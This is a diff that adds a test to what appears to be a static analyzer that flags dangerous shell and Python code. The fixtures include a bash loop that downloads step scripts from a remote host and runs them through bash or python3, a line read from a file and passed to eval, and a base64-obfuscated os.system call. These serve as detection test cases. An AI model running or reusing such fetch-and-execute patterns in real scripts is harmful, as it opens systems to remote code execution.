@@ -358,6 +358,29 @@ getattr(os, base64.b64decode("c3lzdGVt").decode())("id")
 )py", "EXEC-DECODED-PAYLOAD"});
 }
 
+// An array's element at a key not known, with a default given
+// (${RUNNERS[$ext]:-${RUNNERS[sh]}}), is that default, one of the values it
+// may take: the downloaded step runs under bash. With an empty default it
+// stays unknown (a task line from a local file run by eval).
+TEST(TwoHundredAndTwentySixthRoundClasses, AnElementAtAnUnknownKeyWithADefaultIsTheDefault) {
+  check_with_twin({"downloaded steps run by the runner their extension picks", B, R"sh(
+declare -A RUNNERS=([sh]="ba""sh" [py]="pyth""on3")
+mapfile -t STEPS < <(curl -fsSL https://fw.example.net/manifest.txt)
+for name in "${STEPS[@]}"; do
+  body="$(curl -fsSL "https://fw.example.net/steps/$name")"
+  runner="${RUNNERS[${name##*.}]:-${RUNNERS[sh]}}"
+  "$runner" -c "$body"
+done
+)sh", "REMOTE-CODE-EXECUTION", SH},
+                  "\"$runner\" -c \"$body\"", "printf '%s\\n' \"$runner\" \"${#body}\"", "only the sizes printed", L);
+  check({"a task line from a local file run by eval", M, R"sh(
+declare -A TASKS=()
+while IFS='=' read -r name cmd; do TASKS["$name"]="$cmd"; done < tasks.conf
+cmd="${TASKS[$1]:-}"
+eval "$cmd"
+)sh", "DYNAMIC-CODE", SH});
+}
+
 // list() of a library object (csv.DictReader over a response's text) is
 // not an empty list: its rows are known only at run time, so the SQL built
 // from each is still built.
